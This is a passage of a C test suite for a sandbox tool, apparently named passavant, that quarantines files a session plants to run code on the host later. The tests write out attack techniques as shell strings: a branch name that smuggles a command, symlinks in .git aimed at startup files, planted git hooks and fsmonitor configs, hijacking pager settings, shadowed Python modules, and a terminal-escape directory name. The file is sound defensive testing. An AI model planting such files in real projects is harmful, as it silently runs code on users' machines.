	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/a/config.worktree.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/b/config.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/sw/.git/config.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/config.worktree.passavant-quarantine"));
	gcase_free(&c);
}

/*
 * Round 10 of the attack: git writes through a symlink inside a git
 * directory. `ln -s ~/.bashrc .git/logs/HEAD` and a branch named with a
 * shell command: the host's next checkout appended the command to the
 * user's start-up file. The class: every entry of a git directory's tree
 * that is neither a file nor a directory, made in the session (the
 * reflog, FETCH_HEAD, COMMIT_EDITMSG, a linked logs/refs directory that
 * takes the files git creates, a FIFO git would hang on), is moved
 * aside; git's own symbolic-link HEAD (to refs/) stays. A directory of
 * links staged outside the git directory in one session (nothing to
 * check there) and moved in by the next is caught in the next: its links
 * were not inside a git directory when that session started.
 */
static void test_links_in_gitdir(void)
{
	static const char *const want1[] = {
		"/work/.git/logs/HEAD: a symbolic link inside a git directory",
		"/work/.git/FETCH_HEAD: a symbolic link inside a git directory",
		"/work/.git/COMMIT_EDITMSG: a symbolic link inside a git directory",
		"/work/.git/logs/refs: a symbolic link inside a git directory",
		"/work/.git/refs/tags/v1: a symbolic link inside a git directory",
		"/work/.git/MERGE_MSG: neither a file nor a directory inside a git directory",
		/* A name ending in the quarantine's suffix is no exemption
		 * (git names reflogs after branches). */
		"/work/.git/x.passavant-quarantine: a symbolic link inside a git directory",
		NULL};
	static const char *const want2[] = {"/work/.git/logs/HEAD: a symbolic link inside a git directory", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL,
				 "rm -f .git/logs/HEAD && ln -s \"$M/reflog\" .git/logs/HEAD && "
				 "ln -s \"$M/fetch\" .git/FETCH_HEAD && rm -f .git/COMMIT_EDITMSG && ln -s \"$M/msg\" .git/COMMIT_EDITMSG && "
				 "rm -rf .git/logs/refs && ln -s \"$M\" .git/logs/refs && "
				 "ln -s \"$M/tag\" .git/refs/tags/v1 && mkfifo .git/MERGE_MSG && "
				 "rm .git/HEAD && ln -s refs/heads/master .git/HEAD && "
				 "mkdir stage && ln -s ../staged stage/HEAD && "
				 "ln -s \"$M/sfx\" .git/x.passavant-quarantine && "
				 "ln -s refs/heads/master .git/refs/heads/alias && "
				 "mkdir config refs && ln -s stage current",
				 "git -C work checkout -q -b 'x;touch${IFS}\"$M/ran\";#' >/dev/null 2>&1; "
				 "git -C work commit -q --allow-empty -m 'touch $M/subject' >/dev/null 2>&1; "
				 "git -C work fetch -q . master >/dev/null 2>&1; git -C work tag -f v1 >/dev/null 2>&1; "
				 "git -C work checkout -q master >/dev/null 2>&1; echo done") == 0);
	expect_safe(&c, want1);
	/* git's own symbolic-link HEAD, and a link outside any git
	 * directory that stays in the tree (one out of it moves aside:
	 * test_links_out()). */
	CU_ASSERT(!exists(&c, "work/.git/HEAD.passavant-quarantine"));
	CU_ASSERT(!exists(&c, "work/stage/HEAD.passavant-quarantine"));
	CU_ASSERT(!test_has(c.err, "/work/stage/"));
	CU_ASSERT(!test_has(c.err, "/work/.git/HEAD:"));
	/* git's own symbolic ref; a work tree with config/ and refs/
	 * directories is no git directory, its links stay. */
	CU_ASSERT(!test_has(c.err, "/work/.git/refs/heads/alias:"));
	CU_ASSERT(!test_has(c.err, "/work/current:"));
	CU_ASSERT(exists(&c, "work/current"));
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL, "rm -rf .git/logs && mv stage .git/logs") == 0);
	free(c.host);
	c.host = NULL;
	CU_ASSERT(host_sh(&c, c.dir,
			  "git -C work checkout -q -b y >/dev/null 2>&1; git -C work checkout -q master >/dev/null 2>&1; "
			  "echo done",
			  &c.host) == 0);
	expect_safe(&c, want2);
	CU_ASSERT(exists(&c, "work/.git/logs/HEAD.passavant-quarantine"));
	gcase_free(&c);
}

/*
 * Round 10 of the attack: lazygit reads GITDIR/lazygit.yml and
 * .lazygit.yml (custom commands, git.paging.pager, run when the user
 * opens the repository in it); Jujutsu reads .jj/repo/config.toml. None
 * was on a row. Each written in the session, nested or in a submodule's
 * git directory, is moved aside; the top's .lazygit.yml cannot be
 * written at all. (lazygit and jj are not installed here: the host side
 * is what their documentation says they read.)
 */
static void test_tool_configs_in_repo(void)
{
	static const char *const want[] = {
		"/work/.git/lazygit.yml: lazygit repository config",
		"/work/n/.git/lazygit.yml: lazygit repository config",
		"/work/.git/modules/s/lazygit.yml: lazygit repository config",
		"/work/n/.lazygit.yml: editor or agent settings",
		"/work/j/.jj/repo/config.toml: editor or agent settings",
		"/work/k/.jj/repo: a pointer to a directory of settings",
		"/work/.jj/repo: a pointer to a directory of settings",
		NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "git init -q --bare work/.git/modules/s",
				 NULL, NULL,
				 "P='git:\n  paging:\n    pager: touch $M/lazy\n' && printf \"$P\" > .git/lazygit.yml && "
				 "git init -q n && printf \"$P\" > n/.git/lazygit.yml && printf \"$P\" > n/.lazygit.yml && "
				 "printf \"$P\" > .git/modules/s/lazygit.yml && "
				 "mkdir -p j/.jj/repo && printf '[ui]\\npager = \"touch $M/jj\"\\n' > j/.jj/repo/config.toml && "
				 "mkdir -p k/.jj /tmp/jjr /tmp/jjr2 .jj bin/mise && echo /tmp/jjr > k/.jj/repo && "
				 "echo /tmp/jjr2 > .jj/repo && echo x > mise && echo x > k/repo && "
				 "printf '[ui]\\npager = \"touch $M/jjp\"\\n' > /tmp/jjr/config.toml && "
				 "if printf \"$P\" > .lazygit.yml 2>/dev/null; then echo TOP-WRITTEN; fi",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(!test_has(c.out, "TOP-WRITTEN"));
	CU_ASSERT(!exists(&c, "work/.lazygit.yml"));
	CU_ASSERT(exists(&c, "work/.git/lazygit.yml.passavant-quarantine"));
	CU_ASSERT(!exists(&c, "work/.git/lazygit.yml"));
	/* jj's second workspace: .jj/repo a file naming the repository
	 * elsewhere (round 13: not followed); any other file on a row's
	 * way stays */
	CU_ASSERT(!exists(&c, "work/k/.jj/repo"));
	CU_ASSERT(!exists(&c, "work/.jj/repo"));
	CU_ASSERT(exists(&c, "work/mise") && exists(&c, "work/k/repo") && exists(&c, "work/bin/mise"));
	CU_ASSERT(!test_has(c.err, "/work/mise") && !test_has(c.err, "/work/k/repo:"));
	gcase_free(&c);
}

/*
 * Round 15 of the attack: Python's prompt, opened in a directory, imports
 * modules from it first: 3.13's _pyrepl and what it imports in turn
 * (code, traceback, _colorize, unicodedata, ...), 3.10's rlcompleter's
 * (inspect, ast, ...). Each made or changed in the session at the top of
 * a writable tree, as a module, a compiled one or a package, is moved
 * aside; a project's own older one and one in a subdirectory stay. With
 * a python3.13 on the host, its prompt runs nothing planted.
 */
static void test_python_prompt_modules(void)
{
	static const char *const want[] = {
		"/work/code.py: a module Python's prompt imports",
		"/work/traceback.pyc: a module Python's prompt imports",
		"/work/_colorize.cpython-313-x86_64-linux-gnu.so: a module",
		"/work/unicodedata.py: a module",
		"/work/re/__init__.py: a package Python's prompt imports",
		"/work/_pyrepl/__init__.py: a package",
		"/work/enum/__init__.py: a package",
		/* review: a link to a package, a compiled module in __pycache__ */
		"/work/inspect: a link to a package", "/work/__pycache__/types.cpython-313.pyc: a compiled module",
		/* round 16: what help() and a PYTHONSTARTUP file import */
		"/work/pydoc.py: a module", "/work/pprint.py: a module",
		NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "printf 'x = 1\\n' > work/types.py && mkdir -p work/sub work/enum && "
				 "touch work/enum/__init__.py",
				 NULL, NULL,
				 "P='import os\\nopen(os.environ[\"M\"] + \"/py\", \"w\")\\n' && "
				 "for f in code.py unicodedata.py sub/code.py mymod.py pydoc.py pprint.py; do printf \"$P\" > $f; done && "
				 "printf \"$P\" > traceback.pyc && printf \"$P\" > _colorize.cpython-313-x86_64-linux-gnu.so && "
				 "mkdir -p re _pyrepl && printf \"$P\" > re/__init__.py && printf \"$P\" > _pyrepl/__init__.py && "
				 "printf \"$P\" >> enum/__init__.py && mkdir -p .x __pycache__ && printf \"$P\" > .x/__init__.py && "
				 "ln -s .x inspect && printf \"$P\" > __pycache__/types.cpython-313.pyc && "
				 "printf \"$P\" > __pycache__/mymod.cpython-313.pyc",
				 "cd work && for py in python3.13 python3; do command -v $py >/dev/null && "
				 "command -v script >/dev/null && "
				 "printf 'exit()\\n' | timeout 10 script -qc \"$py\" /dev/null >/dev/null 2>&1; "
				 "done; true") == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/code.py.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/types.py") && exists(&c, "work/sub/code.py") && exists(&c, "work/mymod.py"));
	CU_ASSERT(!test_has(c.err, "/work/types.py:") && !test_has(c.err, "/work/sub/code.py") &&
		  !test_has(c.err, "/work/mymod.py") && !test_has(c.err, "mymod.cpython"));
	gcase_free(&c);
	/* Round 17: a project's own older package named like the standard
	 * library gets a compiled __init__ in its __pycache__; the top's
	 * __pycache__ made a link to the command's own directory. */
	{
		static const char *const want2[] = {
			"/work/pprint/__pycache__/__init__.cpython-311.pyc: a compiled module",
			"/work/__pycache__: a link as __pycache__", NULL};

		CU_ASSERT_FATAL(run_case(&c, "mkdir -p work/pprint/__pycache__ && touch work/pprint/__init__.py",
					 NULL, NULL,
					 "P='import os\\nopen(os.environ[\"M\"] + \"/py\", \"w\")\\n' && "
					 "printf \"$P\" > pprint/__pycache__/__init__.cpython-311.pyc && mkdir .stash && "
					 "printf \"$P\" > .stash/types.cpython-311.pyc && ln -s .stash __pycache__",
					 NULL) == 0);
		expect_safe(&c, want2);
		CU_ASSERT(exists(&c, "work/pprint/__init__.py"));
		gcase_free(&c);
	}
}

/*
 * Round 29 of the attack: beyond the standard library. `python3 -m pip`
 * at a project's top imports pip from there first, and Jupyter starts a
 * kernel as `python3 -m ipykernel_launcher` in the notebook's directory.
 * Names of tools run that way and of packages installed for the host's
 * Python (here one in $HOME/.local), new at their name in the session,
 * are moved aside: a package made in the session (its __init__ and
 * __main__: what is left is at most a namespace package), a module file, one next to a
 * notebook, an __init__ or __main__ added to an old plain directory
 * (build/), and a harmless old package renamed into a tool's name; the
 * review of round 29: storemagic.py (IPython imports it from there at
 * every start), __main__.py in the target of an older link named like a
 * tool, and a module beside a notebook that is a link. The project's own
 * package named like a tool, appended to and then replaced by sed -i (a
 * new inode, as git checkout makes), and such a module in a directory
 * without a notebook stay. The host then runs
 * each way, and nothing planted runs.
 */
static void test_python_tool_modules(void)
{
	static const char *const want[] = {
		"/work/pip/__init__.py: a module named like a tool", "/work/pip/__main__.py: a module named",
		"/work/notebooks/ipykernel_launcher.py: a module named",
		"/work/pv_installed_mod.py: a module named", "/work/build/__init__.py: a module named",
		"/work/build/__main__.py: a module named", "/work/pytest/__init__.py: a module named",
		"/work/pytest/__main__.py: a module named",
		/* review of round 29: what IPython imports from there at start
		 * (storemagic), an older link's target, a notebook that is a
		 * link */
		"/work/storemagic.py: a module named", "/work/isort/__main__.py: a module named",
		"/work/lab/ipykernel_launcher.py: a module named", NULL};
	char setup[2 * PATH_MAX];
	struct gcase c;

	SKIP_IF_NEEDED();
	/* An installed package the host's Python finds in $HOME/.local (the
	 * sessions' HOME is ROOT/home). */
	snprintf(setup, sizeof(setup),
		 "mkdir -p '%s/home/.local/lib/python3.99/site-packages/pv_installed_mod' && "
		 "mkdir -p work/black work/build/lib work/notpip work/sub work/_isort work/lab && "
		 "ln -s _isort work/isort && echo '{}' > work/main.ipynb && ln -s ../main.ipynb work/lab/nb.ipynb && "
		 "printf 'x = 1\\n' > work/black/__init__.py && printf 'x = 1\\n' > work/notpip/__init__.py",
		 root);
	CU_ASSERT_FATAL(run_case(&c, setup, NULL, NULL,
				 "P='import os\\nopen(os.environ[\"M\"] + \"/py\", \"w\")\\n' && "
				 "mkdir -p pip notebooks && printf \"$P\" > pip/__init__.py && printf \"$P\" > pip/__main__.py && "
				 "echo '{}' > notebooks/a.ipynb && printf \"$P\" > notebooks/ipykernel_launcher.py && "
				 "printf \"$P\" > pv_installed_mod.py && printf \"$P\" >> black/__init__.py && "
				 "printf \"$P\" > build/__init__.py && printf \"$P\" > build/__main__.py && "
				 "printf \"$P\" > notpip/__main__.py && mv notpip pytest && "
				 "printf \"$P\" > sub/pip.py && printf \"$P\" > mymod3.py && "
				 "printf \"$P\" > storemagic.py && printf \"$P\" > _isort/__main__.py && "
				 "printf \"$P\" > lab/ipykernel_launcher.py && sed -i 's/x = 1/x = 2/' black/__init__.py",
				 "cd work && python3 -m pip --version >/dev/null 2>&1; python3 -m build >/dev/null 2>&1; "
				 "python3 -m pytest --version >/dev/null 2>&1; python3 -c 'import pv_installed_mod' 2>/dev/null; "
				 "(cd notebooks && python3 -m ipykernel_launcher -f /dev/null >/dev/null 2>&1); "
				 "python3 -m isort --version >/dev/null 2>&1; python3 -c 'import storemagic' 2>/dev/null; "
				 "(cd lab && python3 -m ipykernel_launcher -f /dev/null >/dev/null 2>&1); true") == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/pip/__main__.py.passavant-quarantine") && !exists(&c, "work/pip/__main__.py"));
	/* Everything was checked: no directory went from under the walk. */
	CU_ASSERT(!test_has(c.err, "did not finish"));
	CU_ASSERT(exists(&c, "work/black/__init__.py") && exists(&c, "work/sub/pip.py") &&
		  exists(&c, "work/mymod3.py") && exists(&c, "work/build/lib"));
	CU_ASSERT(!test_has(c.err, "/work/black") && !test_has(c.err, "/work/sub/pip.py") &&
		  !test_has(c.err, "/work/mymod3.py"));
	gcase_free(&c);
}

/*
 * Round 11 of the attack: a directory a kept config leads to, swapped in a
 * later session for one staged earlier where nothing checked it. The
 * user's core.hooksPath = .githooks: hooks staged in tools/ci, then
 * `mv .githooks old && mv tools/ci .githooks` (every file old); the
 * user's include.path = ../conf/git.inc: a config staged in stage/, then
 * conf replaced by a link to stage. The walk before the session notes
 * where each kept config leads by identity; another directory or file
 * there after the session counts as new whole.
 */
static void test_kept_config_target_swapped(void)
{
	static const char *const want[] = {"/work/.githooks/pre-commit: hook pre-commit",
					   "/work/stage/git.inc: core.fsmonitor", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c,
				 "mkdir -p work/.githooks work/conf && printf '#!/bin/sh\\nexit 0\\n' > work/.githooks/pre-commit && "
				 "chmod +x work/.githooks/pre-commit && git -C work config core.hooksPath .githooks && "
				 "echo '[user]' > work/conf/git.inc && git -C work config include.path ../conf/git.inc",
				 NULL, NULL,
				 "mkdir -p tools/ci stage && " HOOK("tools/ci/pre-commit", "swapped") " && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("inc") "\\n' > stage/git.inc",
				 NULL) == 0);
	CU_ASSERT(!test_has(c.err, "quarantined"));
	if (test_has(c.err, "quarantined"))
		show(&c);
	CU_ASSERT_FATAL(case_session(&c, NULL, NULL,
				     "mv .githooks tools/old-hooks && mv tools/ci .githooks && "
				     "mv conf conf.old && ln -s stage conf") == 0);
	CU_ASSERT(host_sh(&c, c.dir, GIT_USE("work") "echo done", &c.host) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.githooks/pre-commit.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/stage/git.inc.passavant-quarantine"));
	gcase_free(&c);
}

/*
 * Round 12 of the attack, three ways past the kept-config checks:
 * - a linked worktree (work/wt) of a repository with core.hooksPath =
 *   .githooks: git takes the hooks from wt/.githooks, which the check
 *   looked for only at the main work tree's top;
 * - an include inside an include: the repository's config includes a
 *   team config that includes tools/git/local.cfg and sets its own
 *   core.hooksPath; only the first level was read;
 * - a common directory without HEAD (git needs none there) holding a
 *   link git writes a reflog through;
 * - Mercurial's .hg/sharedpath (hg reads the share source's hgrc).
 */
static void test_worktree_and_nested_includes(void)
{
	static const char *const want[] = {"/work/wt/.githooks2/pre-commit: hook pre-commit",
					   "/work/tools/git/local.cfg: core.fsmonitor",
					   "/work/.githooks2/pre-commit: hook pre-commit",
					   "/work/c/logs/refs/stash: a symbolic link inside a git directory",
					   "/work/h/.hg/sharedpath: ", NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	/* The repository's config: core.hooksPath = .githooks, then an
	 * include of the team config, which includes tools/git/local.cfg
	 * and sets core.hooksPath = .githooks2 (the last one wins). */
	CU_ASSERT_FATAL(run_case(&c,
				 "git -C work config core.hooksPath .githooks && git -C work worktree add -q wt 2>/dev/null && "
				 "mkdir -p work/wt/.githooks2 work/tools/git work/.githooks2 && "
				 "printf '#!/bin/sh\\nexit 0\\n' > work/wt/.githooks2/pre-commit && "
				 "printf '#!/bin/sh\\nexit 0\\n' > work/.githooks2/pre-commit && "
				 "chmod +x work/wt/.githooks2/pre-commit work/.githooks2/pre-commit && "
				 "printf '[include]\\n\\tpath = tools/git/local.cfg\\n[core]\\n\\thooksPath = .githooks2\\n' "
				 "> work/.gitconfig-team && echo '[user]' > work/tools/git/local.cfg && "
				 "git -C work config --add include.path ../.gitconfig-team",
				 NULL, NULL,
				 HOOK("wt/.githooks2/pre-commit", "wt") " && " HOOK(".githooks2/pre-commit", "team") " && "
				 "printf '[core]\\n\\tfsmonitor = " PLANT("nested") "\\n' > tools/git/local.cfg && "
				 "git init -q --bare c && rm c/HEAD && mkdir -p c/logs/refs && ln -s \"$M/stash\" c/logs/refs/stash && "
				 "mkdir -p h/.hg && echo /nowhere > h/.hg/sharedpath",
				 GIT_USE("work") GIT_USE("work/wt") "echo done") == 0);
	expect_safe(&c, want);
	gcase_free(&c);
}

/*
 * Round 12 of the attack: two sessions on one tree at once. Each one's
 * walk before its session and check after it assume nobody else writes
 * the tree in between; session A hid a staged git directory from its own
 * check while B's walk had noted it, and B put it back. A session whose
 * writable trees overlap a running one's (the same tree, one inside the
 * other, or above) is refused before its command starts; one in a
 * separate tree runs; after the first ends, the tree is free again.
 */
static void test_overlapping_sessions(void)
{
	char script[4 * PATH_MAX];
	const char *bin = test_passavant_bin();
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "mkdir -p work/sub other", NULL, NULL, "true", NULL) == 0);
	snprintf(script, sizeof(script),
		 "P='%s'; (cd work && \"$P\" run -- sh -c 'echo started > started.txt; sleep 4') >/dev/null 2>&1 & "
		 "for i in $(seq 100); do [ -f work/started.txt ] && break; sleep 0.1; done; "
		 "(cd work && \"$P\" run -- true) 2>same.err; echo same=$?; "
		 "(cd work/sub && \"$P\" run -- true) 2>/dev/null; echo sub=$?; "
		 "(cd other && \"$P\" run -- true) 2>/dev/null; echo other=$?; "
		 "wait; (cd work && \"$P\" run -- true) 2>/dev/null; echo after=$?; cat same.err",
		 bin);
	CU_ASSERT(host_sh(&c, c.dir, script, &c.host) == 0);
	CU_ASSERT(test_has(c.host, "same=125"));
	CU_ASSERT(test_has(c.host, "sub=125"));
	CU_ASSERT(test_has(c.host, "other=0"));
	CU_ASSERT(test_has(c.host, "after=0"));
	CU_ASSERT(test_has(c.host, "another passavant session is running with a writable tree that overlaps"));
	if (!test_has(c.host, "same=125") || !test_has(c.host, "other=0"))
		show(&c);
	gcase_free(&c);
}

/*
 * Round 37 of the attack: passavant killed with SIGKILL in the middle of
 * a session (a user's kill -9, a CI job's timeout) never ran the check
 * after the run, and the next session checked only what changed during
 * itself: a nested sub/.vscode/tasks.json and a new repository's hook
 * planted before the kill stayed for good, and the hook ran at the
 * host's next commit there. The next session on the tree now checks
 * what changed since the killed one started, before its command; a
 * session that ended normally leaves nothing for the next, so a
 * settings file the user makes on the host afterwards stays.
 */
static void test_killed_session(void)
{
	char script[8 * PATH_MAX];
	const char *bin = test_passavant_bin();
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL, "true", NULL) == 0);
	snprintf(script, sizeof(script),
		 "P='%s'; (cd work && exec \"$P\" run -- sh -c 'mkdir -p sub/.vscode && "
		 "echo \"{}\" > sub/.vscode/tasks.json && git init -q newrepo && "
		 "printf \"#!/bin/sh\\ntouch \\\"\\$M/killed-hook\\\"\\n\" > newrepo/.git/hooks/pre-commit && "
		 "chmod +x newrepo/.git/hooks/pre-commit && echo started > started.txt; sleep 60') "
		 ">/dev/null 2>&1 & pid=$!; "
		 "for i in $(seq 300); do [ -f work/started.txt ] && break; sleep 0.1; done; "
		 "kill -9 $pid; wait $pid; echo killed=$?; "
		 "[ -f work/sub/.vscode/tasks.json ] && echo left-after-kill; "
		 "(cd work && \"$P\" run -- true) 2>next.err; echo next=$?; "
		 "[ -e work/sub/.vscode/tasks.json ] || echo tasks-gone; "
		 "[ -e work/sub/.vscode/tasks.json.passavant-quarantine ] && echo tasks-quarantined; "
		 "[ -e work/.mcp.json ] || [ -e work/.mcp.json.passavant-quarantine ] || echo placeholders-gone; "
		 "git -C work/newrepo commit -q --allow-empty -m host >/dev/null 2>&1; "
		 "mkdir -p work/host/.vscode && echo '{}' > work/host/.vscode/settings.json; "
		 "(cd work && \"$P\" run -- true) 2>third.err; echo third=$?; "
		 "[ -f work/host/.vscode/settings.json ] && echo host-kept; "
		 "mkdir -p work/sub2; (cd work/sub2 && exec \"$P\" run -- sh -c 'mkdir -p x/.vscode && "
		 "echo \"{}\" > x/.vscode/tasks.json && echo started > started2.txt; sleep 60') >/dev/null 2>&1 & "
		 "pid=$!; for i in $(seq 300); do [ -f work/sub2/started2.txt ] && break; sleep 0.1; done; "
		 "kill -9 $pid; wait $pid; (cd work && \"$P\" run -- true) 2>/dev/null; echo fourth=$?; "
		 "[ -e work/sub2/x/.vscode/tasks.json ] || echo below-gone; "
		 "echo NEXT:; cat next.err; echo THIRD:; cat third.err",
		 bin);
	CU_ASSERT(host_sh(&c, c.dir, script, &c.host) == 0);
	ROW(test_has(c.host, "killed=137") && test_has(c.host, "left-after-kill"),
	    "the first session was not killed with its plant in place: %s", test_nz(c.host));
	ROW(test_has(c.host, "next=0"), "the session after the kill did not run: %s", test_nz(c.host));
	ROW(test_has(c.host, "tasks-gone") && test_has(c.host, "tasks-quarantined"),
	    "sub/.vscode/tasks.json planted before the kill stayed: %s", test_nz(c.host));
	ROW(markers(&c)[0] == '\0', "the hook planted before the kill ran at the host's commit: %s", markers(&c));
	ROW(test_has(c.host, "placeholders-gone"),
	    "the killed session's placeholders (.mcp.json) stayed or were moved aside as its plants: %s",
	    test_nz(c.host));
	ROW(test_has(c.host, "ended without its check after the run"),
	    "the next session did not say an earlier one ended unchecked: %s", test_nz(c.host));
	ROW(test_has(c.host, "third=0") && test_has(c.host, "host-kept") &&
		!test_has(strstr(c.host, "THIRD:") ? strstr(c.host, "THIRD:") : "", "ended without its check"),
	    "after a session that ended normally, the next one checked an old session again: %s",
	    test_nz(c.host));
	ROW(test_has(c.host, "fourth=0") && test_has(c.host, "below-gone"),
	    "a session killed in work/sub2 was not checked by the next one in work: %s", test_nz(c.host));
	gcase_free(&c);
}

/*
 * A shell function for the killed-session tests ($P: passavant): kill9
 * DIR starts a session in work/DIR that plants sub/.vscode/tasks.json,
 * kills passavant with SIGKILL once the plant is in place, and prints
 * killed-DIR=STATUS.
 */
#define KILL9_SH                                                                                              \
	"kill9() { mkdir -p \"work/$1\"; (cd \"work/$1\" && exec \"$P\" run -- sh -c 'mkdir -p sub/.vscode && "     \
	"echo \"{}\" > sub/.vscode/tasks.json && echo started > started.txt; sleep 60') >/dev/null 2>&1 & "         \
	"pid=$!; for i in $(seq 300); do [ -f \"work/$1/started.txt\" ] && break; sleep 0.1; done; "                \
	"kill -9 $pid; wait $pid; echo \"killed-$1=$?\"; }; "

/*
 * Review of round 37 (review37a), K1's marks and trees the user moved or
 * made anew on the host after the kill. A tree moved (work/p -> work/q)
 * was checked by no session: the next one in work/q found no mark of
 * its path, the plant stayed. A tree removed and made again at its path
 * (rm -rf, then a fresh clone) was checked as the killed session's:
 * every file of the new one is newer than that session's start, so the
 * user's own nested settings were moved aside. The mark now holds the
 * tree's device and inode: the moved tree is checked in its new place;
 * a directory born after the session's start is another, not checked,
 * its mark removed, with a line. A plant of the killed session that
 * cannot be moved aside makes the status 1 (it was 0, the line saying
 * it was not).
 */
static void test_killed_session_moved_tree(void)
{
	char script[8 * PATH_MAX];
	const char *bin = test_passavant_bin();
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL, "true", NULL) == 0);
	snprintf(script, sizeof(script),
		 "P='%s'; " KILL9_SH
		 "kill9 p; mv work/p work/q; (cd work/q && \"$P\" run -- true) 2>q.err; echo q=$?; "
		 "[ -e work/q/sub/.vscode/tasks.json ] || echo moved-checked; "
		 "kill9 r; rm -rf work/r; mkdir -p work/r/sub/.vscode; echo '{\"user\":1}' > work/r/sub/.vscode/tasks.json; "
		 "(cd work/r && \"$P\" run -- true) 2>r.err; echo r=$?; "
		 "[ -f work/r/sub/.vscode/tasks.json ] && echo remade-kept; "
		 "(cd work/r && \"$P\" run -- true) 2>r2.err; echo r2=$?; "
		 "kill9 s; chattr +i work/s/sub/.vscode && echo chattr-ok; (cd work/s && \"$P\" run -- true) 2>s.err; "
		 "echo status-s=$?; chattr -i work/s/sub/.vscode; "
		 "echo Q:; cat q.err; echo R:; cat r.err; echo S:; cat s.err; echo R2:; cat r2.err",
		 bin);
	CU_ASSERT(host_sh(&c, c.dir, script, &c.host) == 0);
	ROW(test_has(c.host, "killed-p=137") && test_has(c.host, "killed-r=137"), "the sessions were not killed: %s",
	    test_nz(c.host));
	ROW(test_has(c.host, "q=0") && test_has(c.host, "moved-checked"),
	    "a tree moved after the kill was not checked in its new place: %s", test_nz(c.host));
	ROW(test_has(c.host, "r=0") && test_has(c.host, "remade-kept"),
	    "a directory made anew at a killed session's path had the user's settings moved aside: %s",
	    test_nz(c.host));
	ROW(test_has(c.host, "is now another directory"), "no line said the killed session's tree is gone: %s",
	    test_nz(c.host));
	ROW(test_has(c.host, "r2=0") && !test_has(strstr(c.host, "R2:") ? strstr(c.host, "R2:") : "", "killed"),
	    "the session after that still spoke of the killed one: %s", test_nz(c.host));
	/* a plant of the killed session that cannot be moved aside (its
	 * directory made immutable on the host): the status is not 0, as
	 * after a session's own check and as the line says */
	ROW(!test_has(c.host, "chattr-ok") ||
		(test_has(c.host, "could not be moved aside") && test_has(c.host, "status-s=1")),
	    "a killed session's plant left in place gave status 0: %s", test_nz(c.host));
	gcase_free(&c);
}

/*
 * Round 41 (K1's "Not done"): a killed session's tree moved on the host
 * below ANOTHER session's tree (work/t -> other/deep/t, the next session
 * in other/) was found only by a session in the moved tree itself: the
 * plant stayed. That session now finds it by device and inode.
 * Round 47: the path it names is made of names found below that tree,
 * which a command may have chosen (here a directory named with a
 * terminal's title escape): shown as \xNN, not sent to the terminal
 * (the lines were printed raw).
 */
static void test_killed_session_moved_below(void)
{
	char script[4 * PATH_MAX];
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, NULL, NULL, NULL, "true", NULL) == 0);
	snprintf(script, sizeof(script),
		 "P='%s'; " KILL9_SH "kill9 t; d=$(printf 'other/de\\033]0;x\\007ep'); "
		 "mkdir -p \"$d\" && mv work/t \"$d/t\"; (cd other && \"$P\" run -- true) 2>t.err; "
		 "echo t=$?; [ -e \"$d/t/sub/.vscode/tasks.json\" ] || echo below-checked; echo T:; cat t.err",
		 test_passavant_bin());
	CU_ASSERT(host_sh(&c, c.dir, script, &c.host) == 0);
	ROW(test_has(c.host, "killed-t=137") && test_has(c.host, "t=0") && test_has(c.host, "below-checked") &&
		    test_has(c.host, "other/de\\x1b]0;x\\x07ep/t is the directory an earlier session ran in"),
	    "a killed session's tree moved below another session's tree was not checked there: %s", test_nz(c.host));
	ROW(c.host != NULL && strchr(c.host, '\033') == NULL && strchr(c.host, '\007') == NULL,
	    "a name of the killed session's tree reached the terminal with its escapes: %s", test_nz(c.host));
	gcase_free(&c);
}

/*
 * Round 13's review: a config the command wrote, reached from a work
 * tree whose .git file it also wrote, named core.hooksPath = the work
 * tree, and the check, taking every entry of a swapped hooks directory
 * for new, moved the repository's .git aside. A .git file pointing at a
 * directory git would not take is moved aside; a config is followed only
 * when it was there at the start; nothing of the user's moves.
 */
static void test_planted_config_moves_nothing(void)
{
	static const char *const want[] = {"/work/w/.git: gitdir: (points at a directory that is no git directory)",
					   NULL};
	struct gcase c;

	SKIP_IF_NEEDED();
	CU_ASSERT_FATAL(run_case(&c, "echo keep > work/notes.txt", NULL, NULL,
				 "mkdir g w w2 && printf '[core]\\n\\thooksPath = '\"$PWD\"'\\n' > g/config && "
				 "echo \"gitdir: $PWD/g\" > w/.git && git init -q --bare g2 && "
				 "printf '[core]\\n\\thooksPath = '\"$PWD\"'\\n' >> g2/config && "
				 "echo \"gitdir: $PWD/g2\" > w2/.git && echo x > written.txt",
				 NULL) == 0);
	expect_safe(&c, want);
	CU_ASSERT(exists(&c, "work/.git/HEAD"));
	CU_ASSERT(!exists(&c, "work/.git.passavant-quarantine"));
	CU_ASSERT(exists(&c, "work/notes.txt"));
	CU_ASSERT(exists(&c, "work/written.txt"));
	CU_ASSERT(!test_has(c.err, "/work/.git: hook"));
	CU_ASSERT(!test_has(c.err, "/work/written.txt"));
	gcase_free(&c);
}

/*
 * Round 13 of the attack: a core.hooksPath the user set with `git config
 * --worktree` (in .git/config.worktree, extensions.worktreeConfig) was
 * not followed; a common directory whose objects is a link was no git
 * directory to the link check (git follows the link).
 */
static void test_worktree_config_and_linked_objects(void)
{
